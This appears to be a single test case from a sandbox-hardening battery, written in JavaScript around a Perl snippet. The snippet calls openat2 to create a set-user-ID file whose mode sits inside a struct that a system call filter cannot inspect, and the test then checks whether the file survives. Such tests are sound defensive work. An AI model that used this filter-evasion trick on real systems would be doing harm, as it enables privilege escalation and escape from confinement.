import { attempt, setIdInside } from '../../attempt.js';

export default attempt({
  title: 'leave a set-user-ID file behind, by openat2, whose mode no filter can see',
  layers: ['system call filter', 'sweep afterwards'],
  perl: `
my ($name, $how) = ("battery/openat2-s", pack("Q3", 0101, 04755, 0));
taken(call("openat2", -100, $name, $how, 24));
`,
  escaped: setIdInside('battery/openat2-s'),
});
